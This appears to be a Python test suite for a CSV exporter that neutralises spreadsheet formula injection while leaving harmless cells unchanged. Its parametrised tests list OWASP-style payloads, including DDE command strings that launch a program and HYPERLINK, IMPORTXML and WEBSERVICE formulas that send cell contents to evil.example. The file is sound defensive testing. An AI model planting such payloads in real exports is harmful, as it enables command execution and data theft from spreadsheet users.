"""Tests the CSV export: only cells a spreadsheet would run are touched, everything else is byte-identical."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.storage.test_export_support import build
from workbench.storage.export import FIELDS, ExportFilter, iter_records
from workbench.storage.export_csv import export_csv, has_formula, neutralise, text_field, unneutralise, write_csv


@pytest.fixture
def conn(tmp_path):
    c = build(tmp_path / "workbench.db")
    yield c
    c.close()


def _rows(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _export(conn, flt=None, **kw) -> str:
    out = io.StringIO(newline="")
    export_csv(conn, out, flt, **kw)
    return out.getvalue()


# --- OWASP "CSV Injection" ---------------------------------------------------------------

@pytest.mark.parametrize("value, field", [
    # The page's two examples, input and escaped output exactly as it gives them.
    ('=1+2";=1+2', '"\'=1+2"";=1+2"'),
    ("=1+2'\" ;,=1+2", '"\'=1+2\'"" ;,=1+2"'),
])
def test_owasp_examples_are_escaped_as_the_page_shows(value, field):
    assert text_field(value) == field
    assert _rows(f"{field}\r\n") == [["'" + value]]
    assert _rows(f"{field}\r\n", delimiter=";") == [["'" + value]]  # a ";" locale: still one text cell


# Every character the page lists, each leading a formula that reaches outside its cell.
OWASP_FORMULAS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=1+1", "= 1", "=",
    "+cmd|' /C calc'!A0", "+IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")",
    "-2+3+cmd|' /C calc'!A0", "-HYPERLINK(\"http://evil.example\")", "- x (WEBSERVICE(\"http://e.example\"))",
    "-Sheet2!A1", "+'C:\\path\\[book.xlsx]Sheet1'!A1",
    "@SUM(1+9)*cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    "\t=1+2", "\tplain after a tab", "\r=1+2", "\n=1+2",
]


@pytest.mark.parametrize("value", OWASP_FORMULAS)
def test_every_formula_the_owasp_page_lists_is_neutralised(value):
    assert has_formula(value)
    assert neutralise(value) == "'" + value
    assert not has_formula(neutralise(value))
    assert unneutralise(neutralise(value)) == value


# Cells a spreadsheet shows as text, a number or at worst a computed value or an error: no call,
# link or reference, so kept byte for byte (issue 15). Real captions and notes among them.
KEPT = ["-3 degrees", "-3 degrees, not -5 as the piece says", "+5 degrees is the forecast",
        "-12 percent was the drop", "@carol", "-report not public", "+anonymous, no second source",
        "- From the section US & Canada", "- 4K Blu-ray drive is great for movie fans",
        "- Kauri (Te Kaurinui Robert) Parata, watched by his father", "+44 (0)20 7946 0000", "-2+3", "@A1&A2",
        "'Parasite' scores", "''Parasite' scores at Cannes", "'", "-", "+", "@", "-3", "plain = text", "",
        "100% (all)", "'-3 degrees", "a\n=1+2"]


@pytest.mark.parametrize("value", KEPT)
def test_other_cells_are_byte_identical(value):
    assert not has_formula(value)
    assert neutralise(value) == value and unneutralise(value) == value


@pytest.mark.parametrize("value, expected", [("'=1+2", "''=1+2"), ("''-cmd|x", "'''-cmd|x"), ("'\tx", "''\tx")])
def test_apostrophe_led_formulas_get_one_more_so_the_round_trip_is_exact(value, expected):
    assert neutralise(value) == expected and unneutralise(expected) == value


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n(|!*aZ 1\",;") | st.characters(), max_size=24))
def test_neutralise_is_safe_and_exactly_reversible(value):
    safe = neutralise(value)
    assert safe in (value, "'" + value)
    assert not has_formula(safe)
    assert unneutralise(safe) == value
    assert (safe != value) == (has_formula(value.lstrip("'")))


# --- the export ------------------------------------------------------------------------

def test_no_exported_cell_can_run_as_a_formula(conn):
    text = _export(conn, with_history=True)
    cells = [cell for row in _rows(text) for cell in row]
    assert not [c for c in cells if has_formula(c)]
    # The dangerous values are there, neutralised, not dropped.
    assert "'=HYPERLINK(\"http://evil.example\",\"click\") was pasted into the form" in cells
    assert "'\tTabs lead this unattributed line." in cells
    # The harmless ones are exactly as stored (issue 15: no more "'-12 percent").
    for kept in ("-12 percent was the drop", "+5 degrees is the forecast", "@carol", "-report not public",
                 "+anonymous, no second source", "On the record; =see transcript"):  # no call, link or reference
        assert kept in cells, kept


def test_one_row_per_claim_with_the_jsonl_fields(conn):
    text = _export(conn)
    rows = _rows(text)
    assert tuple(rows[0]) == FIELDS
    assert len(rows) == 9
    assert text.endswith("\r\n")


@pytest.mark.parametrize("raw", [False, True])
@pytest.mark.parametrize("with_history", [False, True])
@pytest.mark.parametrize("flt", [ExportFilter(), ExportFilter(article_id=2), ExportFilter(status="unreviewed")])
def test_fast_csv_is_byte_identical_to_the_general_writer(conn, flt, with_history, raw):
    slow = io.StringIO(newline="")
    write_csv(iter_records(conn, flt, with_history=with_history), slow, raw=raw)
    assert _export(conn, flt, with_history=with_history, raw=raw) == slow.getvalue()


def test_a_nul_in_a_value_is_kept_whole_by_the_fast_path(conn):
    """printf stops at a NUL; such a value takes the long way and still matches the general writer."""
    from workbench.storage import reviews

    reviews.mark(conn, 1, "sourced", "nul\x00reviewer", note="=cmd|x\x00 and after the NUL, \"quoted\"")
    fast = _export(conn)
    slow = io.StringIO(newline="")
    write_csv(iter_records(conn), slow)
    assert fast == slow.getvalue()
    row = dict(zip(FIELDS, _rows(fast)[1]))
    assert row["note"] == "'=cmd|x\x00 and after the NUL, \"quoted\"" and row["reviewer"] == "nul\x00reviewer"


def _flat(rec: dict, field: str) -> str:
    value = rec[field]
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dict):
        return value["text"]
    if isinstance(value, list):
        return "\n".join(value) if field == "evidence" else None
    return str(value)


@pytest.mark.parametrize("raw", [False, True])
def test_every_text_reads_back_as_stored(conn, raw):
    """Raw: every cell equals the database's value; neutralised: after unneutralise, and only formulas differ."""
    rows = [dict(zip(FIELDS, r)) for r in _rows(_export(conn, raw=raw))[1:]]
    records = list(iter_records(conn))
    assert len(rows) == len(records) == 8
    changed = 0
    for row, rec in zip(rows, records):
        for field in FIELDS:
            stored = _flat(rec, field)
            if stored is None:  # check_worthiness_reasons: a JSON list
                continue
            cell = row[field]
            if raw:
                assert cell == stored, field
            else:
                assert unneutralise(cell) == stored, field
                assert cell == stored or has_formula(stored), field
                changed += cell != stored
    # Neutralised: the text and sentence of the =HYPERLINK claim and of the tab-led line, nothing else.
    assert raw or changed == 4


def test_raw_export_keeps_formulas(conn):
    cells = [c for row in _rows(_export(conn, raw=True)) for c in row]
    assert '=HYPERLINK("http://evil.example","click") was pasted into the form' in cells
    assert "\tTabs lead this unattributed line." in cells


def test_utf8_file(tmp_path, conn):
    path = tmp_path / "claims.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        export_csv(conn, f)
    assert "María López" in path.read_bytes().decode("utf-8")
